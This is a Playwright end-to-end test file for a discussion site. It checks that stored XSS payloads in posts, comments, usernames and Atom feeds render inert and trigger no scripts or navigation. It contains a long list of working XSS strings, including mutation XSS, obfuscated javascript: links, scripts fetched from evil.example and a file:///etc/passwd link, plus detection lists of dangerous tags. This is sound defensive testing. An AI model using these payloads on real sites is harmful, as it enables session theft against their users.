"""Stored XSS in a real Chromium: an alumnus writes a discussion and comments full of XSS payloads;
another alumnus reads the post, a reply form quoting one of the comments, and the feed, hovers and
clicks every link in the user content, and nothing runs: no dialog, no CSP violation, no console
error (all three fail the test through the page fixture), and nothing in the rendered content
carries an event handler or a link with a scheme other than http, https or mailto.
The Atom feeds are well-formed XML, with no markup a feed reader would run.

Clicking a link must not leave the page: navigations the clicks start are answered with 204 No
Content by a route, which makes Chromium stay where it is (javascript: links never reach the
network, so if one survived it would run, or be blocked by the CSP, and fail the test either way).
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from app.models.user import Role
from tests.e2e.conftest import DESKTOP, log_in_as

pytestmark = pytest.mark.e2e

ATOM = "{http://www.w3.org/2005/Atom}"
SAFE_SCHEMES = ("http", "https", "mailto")

TITLE = ("<script>alert('title')</script><img src=x onerror=alert('title-img')> "
         "\"onmouseover=\"alert('title-attr')\" {{ 7*7 }} </textarea><svg onload=alert(1)>")

# Each payload is a paragraph of its own, so Markdown sees each one whole; the two blocks at the
# end are written as multi-line Markdown on purpose (reference links, fenced code).
PAYLOADS = [
    # plain HTML (raw HTML is off in the Markdown renderer; the sanitizer is the second line)
    "<script>alert('script')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('img')>",
    "<svg onload=alert('svg')>",
    "<svg><script>alert('svg-script')</script></svg>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<a href=\"javascript:alert('html-link')\">html link</a>",
    "<a href=\"https://example.org/\" onmouseover=\"alert('html-hover')\">html hover</a>",
    "<details open ontoggle=alert('details')>",
    "<body onload=alert('body')>",
    "<input autofocus onfocus=alert('focus')>",
    "<object data=\"javascript:alert('object')\"></object>",
    "<base href=\"javascript:alert('base')//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('meta')\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "</textarea><script>alert('textarea')</script>",
    # mutation XSS
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('math')>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('form-math')>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('svg-style')>\">",
    # Markdown links with dangerous schemes
    "[markdown js link](javascript:alert('md-link'))",
    "[upper case](JaVaScRiPt:alert('md-upper'))",
    "[leading space](  javascript:alert('md-space'))",
    "[angle destination](<javascript:alert('md-angle')>)",
    "[entity](&#106;avascript:alert('entity'))",
    "[hex entity](&#x6A;avascript:alert('hex-entity'))",
    "[all entities](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('all'))",
    "[tab entity](jav&#x09;ascript:alert('tab'))",
    "[newline entity](jav&#x0A;ascript:alert('newline'))",
    "[nul entity](&#0;javascript:alert('nul'))",
    "[colon entity](javascript&colon;alert('colon'))",
    "[percent colon](javascript%3Aalert('percent'))",
    "[vbscript](vbscript:msgbox('vb'))",
    "[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)",
    "[data svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![data image](data:image/svg+xml,<svg onload=alert('md-image')>)",
    "![remote image](https://evil.example/pixel.png \"x\" onerror=\"alert('md-image-title')\")",
    "[quote in title](https://example.org/ \"a\\\"onmouseover=\\\"alert('md-title')\")",
    "[single-quoted title](https://example.org/ 'x\"onmouseover=\"alert(\"md-title-2\")')",
    "[quote in url](https://example.org/\"onmouseover=\"alert('md-url'))",
    "[file](file:///etc/passwd)",
    # autolinks and linkified text
    "<javascript:alert('autolink')>",
    "<JAVASCRIPT:alert('autolink-upper')>",
    "<data:text/html,alert('autolink-data')>",
    "https://example.org/\"><script>alert('linkify')</script>",
    "www.example.org/?q=<img src=x onerror=alert('linkify-www')>",
    "javascript://example.org/%0Aalert('comment-trick')",
    # template injection and harmless neighbours that must keep working
    "{{ 7 + 7 }} {% raw %} ${7 + 7} #{7 + 7}",
    "`<script>alert('code')</script>` in code",
    "[a real link](https://example.org/page) and [mail me](mailto:someone@example.org)",
    "[a relative link](/posts) and [an anchor](#comments-heading)",
]
REFERENCE_LINK = "[reference link][evil]\n\n[evil]: javascript:alert('reference')"
FENCED = "```html\n<script>alert('fenced')</script>\n<img src=x onerror=alert('fenced-img')>\n```"
BODY = "\n\n".join(PAYLOADS[:20] + [REFERENCE_LINK, FENCED] + PAYLOADS[20:])
COMMENTS = [
    "\n\n".join(PAYLOADS[0:12]),
    "\n\n".join(PAYLOADS[12:24]),
    "\n\n".join(PAYLOADS[24:38]) + "\n\n" + REFERENCE_LINK,
    "\n\n".join(PAYLOADS[38:]) + "\n\n" + FENCED,
]

# Everything user-written that the post page, a reply form and the feed render.
CONTENT = "article.post .prose, article.comment .prose, .quoted-comment .prose, article.entry .excerpt"

FIND_PROBLEMS = """
([contentSelector, safeSchemes]) => {
  const problems = [];
  const describe = (el) => el.outerHTML.slice(0, 120);
  const dangerousTags = new Set(["script", "iframe", "frame", "object", "embed", "img", "image", "svg", "math",
    "style", "link", "meta", "base", "form", "input", "button", "textarea", "select", "noscript", "template",
    "video", "audio", "source", "details", "body", "mglyph"]);
  const urlAttributes = ["href", "src", "srcdoc", "action", "formaction", "xlink:href", "background", "poster",
    "data", "srcset", "ping"];
  // The whole document: no event handler anywhere, no script but the app's own, no unsafe link.
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      if (attr.name.toLowerCase().startsWith("on")) problems.push(`${attr.name} on ${describe(el)}`);
    }
    if (el.tagName.toLowerCase() === "script" && !(el.getAttribute("src") || "").startsWith("/static/")) {
      problems.push(`script: ${describe(el)}`);
    }
    if (el.hasAttribute("href")) {
      let scheme;
      try { scheme = new URL(el.getAttribute("href"), document.baseURI).protocol.replace(/:$/, ""); }
      catch (error) { scheme = `unparsable (${error})`; }
      if (!safeSchemes.includes(scheme)) problems.push(`${scheme} link: ${describe(el)}`);
    }
  }
  // The user content: only harmless elements, no URL-bearing attribute but a link's href, no style.
  for (const root of document.querySelectorAll(contentSelector)) {
    for (const el of root.querySelectorAll("*")) {
      if (dangerousTags.has(el.tagName.toLowerCase())) problems.push(`<${el.tagName.toLowerCase()}> in content: ${describe(el)}`);
      for (const name of urlAttributes.concat(["style", "target", "id", "name", "form"])) {
        if (name === "href" && el.tagName.toLowerCase() === "a") continue;
        if (el.hasAttribute(name)) problems.push(`${name} attribute in content: ${describe(el)}`);
      }
    }
  }
  return problems;
}
"""


def content_problems(page) -> list[str]:
    return page.evaluate(FIND_PROBLEMS, [CONTENT, list(SAFE_SCHEMES)])


class StayOnPage:
    """While on, answer every top-level navigation with 204 No Content, so Chromium stays put;
    records where the page tried to go."""

    def __init__(self, page):
        self.page = page
        self.on = False
        self.attempts: list[str] = []
        page.route("**/*", self._handle)

    def _handle(self, route):
        request = route.request
        if self.on and request.is_navigation_request() and request.frame == self.page.main_frame:
            self.attempts.append(request.url)
            route.fulfill(status=204, body="")
        else:
            route.continue_()


POINT_AT_EVERYTHING = """
(scope) => {
  // What hovering, pointing and focusing would fire, on every element of the user content at once
  // (a real mouse over ~150 elements would take seconds); links get real clicks afterwards.
  let count = 0;
  for (const el of document.querySelectorAll(`:is(${scope}) *`)) {
    for (const type of ["pointerover", "pointerenter", "mouseover", "mouseenter", "mousemove", "pointerleave",
                        "mouseout", "mouseleave"]) {
      el.dispatchEvent(new MouseEvent(type, {bubbles: !type.endsWith("enter") && !type.endsWith("leave")}));
    }
    el.dispatchEvent(new FocusEvent("focusin", {bubbles: true}));
    if (typeof el.focus === "function") el.focus();
    count += 1;
  }
  return count;
}
"""


def hover_and_click_links(page, stay: StayOnPage, scope: str) -> int:
    """Point at every element of the user content, then move the real mouse onto and click every
    link in it; the page must stay where it is. Returns the number of links."""
    start = page.url.split("#", 1)[0]
    assert page.evaluate(POINT_AT_EVERYTHING, scope) > 0, f"nothing in {scope}"
    links = page.locator(f":is({scope}) a[href]").all()
    stay.on = True
    try:
        for link in links:
            href = link.get_attribute("href") or ""
            if href.startswith("mailto:"):
                link.hover()  # a click would ask the system for a mail program; the scheme is checked elsewhere
                continue
            link.click(force=True)  # moves the mouse onto the link first, so it is hovered too
            assert page.url.split("#", 1)[0] == start, f"clicking {href!r} left the page for {page.url}"
        page.wait_for_timeout(100)  # a late navigation would show here
        assert page.url.split("#", 1)[0] == start, f"the page left for {page.url}"
    finally:
        stay.on = False
    for url in stay.attempts:
        assert urlsplit(url).scheme in ("http", "https"), f"a click navigated to {url!r}"
    return len(links)


class _FeedContent(HTMLParser):
    """What a feed reader would render from an Atom entry's HTML content."""

    def __init__(self):
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "img", "svg", "math", "style", "form", "base", "meta"):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "src", "srcdoc"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "href" and urlsplit((value or "").strip()).scheme.lower() not in ("", *SAFE_SCHEMES):
                self.problems.append(f"<{tag} href={value!r}>")


def check_atom(page, url: str) -> ET.Element:
    response = page.request.get(url)
    assert response.status == 200, f"{url} answered {response.status}"
    assert response.headers["content-type"].startswith("application/atom+xml")
    raw = response.text()
    assert not re.search(r"<\s*script", raw, re.IGNORECASE), f"unescaped <script in {url}"
    assert not re.search(r"<[^>]*\son\w+\s*=", raw, re.IGNORECASE), f"an event handler attribute in {url}"
    root = ET.fromstring(response.body())  # raises on malformed XML
    assert root.tag == f"{ATOM}feed"
    for content in root.iter(f"{ATOM}content"):
        assert content.get("type") == "html"
        parser = _FeedContent()
        parser.feed(content.text or "")
        parser.close()
        assert not parser.problems, f"{url}: a feed reader would render {parser.problems}"
    return root


def test_stored_xss_payloads_stay_inert(app, make_user, page_factory, live_server, screenshot_dir):
    writer = make_user(Role.ALUMNUS, name="Mallory <b onmouseover=alert('name')>Writer</b>")
    reader = make_user(Role.ALUMNUS, name="Rita Reader")
    with app.app_context():  # this test is about rendering: past an account's first days (a new one may not post
        # this many links), and the link-spam rule off (a newcomer's many links would be held)
        from datetime import timedelta

        from app.extensions import db
        from app.models.types import utcnow
        from app.models.user import User
        from app.services import settings

        db.session.get(User, writer.id).created_at = utcnow() - timedelta(days=30)
        settings.save(None, {"new_account_link_posts": "0"})
        db.session.commit()

    # The writer publishes the discussion and the comments through the forms.
    writer_page = page_factory(DESKTOP)
    log_in_as(writer_page, writer, through_form=False)
    writer_page.goto("/posts/new")
    writer_page.get_by_label("Title", exact=True).fill(TITLE)
    writer_page.get_by_label("Text", exact=True).fill(BODY)
    writer_page.get_by_role("button", name="Publish").click()
    expect(writer_page).to_have_url(re.compile(r"/posts/\d+$"))
    post_url = urlsplit(writer_page.url).path
    comment_ids = []
    for text in COMMENTS:
        writer_page.get_by_label("Your comment").fill(text)
        writer_page.get_by_role("button", name="Publish comment").click()
        expect(writer_page).to_have_url(re.compile(rf"{post_url}#c\d+$"))
        comment_ids.append(int(writer_page.url.rsplit("#c", 1)[1]))
    assert len(set(comment_ids)) == len(COMMENTS)

    # The writer's own edit forms give the source back exactly (</textarea> cannot break out).
    writer_page.goto(f"{post_url}/edit")
    expect(writer_page.get_by_label("Title", exact=True)).to_have_value(TITLE)
    expect(writer_page.get_by_label("Text", exact=True)).to_have_value(BODY)
    writer_page.goto(f"/comments/{comment_ids[1]}/edit")
    expect(writer_page.get_by_label("Your comment")).to_have_value(COMMENTS[1])
    assert content_problems(writer_page) == []

    # Another alumnus reads the post: the title is text, the payloads are inert.
    reader_page = page_factory(DESKTOP, service_workers="block")  # StayOnPage answers its navigations
    log_in_as(reader_page, reader, through_form=False)
    stay = StayOnPage(reader_page)
    reader_page.goto(post_url)
    expect(reader_page.get_by_role("heading", level=1)).to_have_text(TITLE)
    assert reader_page.title().startswith(TITLE)
    expect(reader_page.locator("article.comment")).to_have_count(len(COMMENTS))
    prose = reader_page.locator("article.post .prose")
    expect(prose).to_contain_text("<script>alert('script')</script>")  # shown as text
    expect(prose).to_contain_text("{{ 7 + 7 }} {% raw %} ${7 + 7}")
    expect(prose.get_by_role("link", name="a real link")).to_have_attribute("href", "https://example.org/page")
    assert content_problems(reader_page) == []
    clicked = hover_and_click_links(reader_page, stay, "article.post .prose, article.comment .prose")
    assert clicked >= 4
    assert "https://example.org/page" in stay.attempts  # the route did see the real link's click
    assert content_problems(reader_page) == []
    reader_page.screenshot(path=str(screenshot_dir / "xss-post.png"), full_page=True)

    # A reply form quotes the comment it answers.
    reader_page.goto(f"/comments/{comment_ids[0]}/reply")
    expect(reader_page.locator(".quoted-comment .prose")).to_contain_text("<img src=x onerror=alert('img')>")
    assert content_problems(reader_page) == []
    hover_and_click_links(reader_page, stay, ".quoted-comment .prose")

    # The feed shows the title and an excerpt as text.
    reader_page.goto("/")
    entry = reader_page.locator("article.entry")
    expect(entry.get_by_role("heading", level=3)).to_have_text(TITLE)
    expect(entry.locator(".excerpt")).to_contain_text("<script>alert('script')</script>")
    assert content_problems(reader_page) == []
    hover_and_click_links(reader_page, stay, "article.entry")

    # The Atom feeds are well-formed, carry the title as text and no runnable markup.
    feed = check_atom(reader_page, "/feed.atom")
    titles = [entry.findtext(f"{ATOM}title") for entry in feed.iter(f"{ATOM}entry")]
    assert titles == [TITLE]
    comments_feed = check_atom(reader_page, f"{post_url}/comments.atom")
    assert len(list(comments_feed.iter(f"{ATOM}entry"))) == len(COMMENTS)

    # Not a security matter, checked last: code is shown exactly as written, not escaped twice.
    reader_page.goto(post_url)
    code_texts = [reader_page.locator("article.post .prose p > code").text_content(),
                  reader_page.locator("article.post .prose pre code").text_content()]
    assert code_texts == ["<script>alert('code')</script>",
                          "<script>alert('fenced')</script>\n<img src=x onerror=alert('fenced-img')>\n"], (
        f"code is shown escaped twice: {code_texts}")
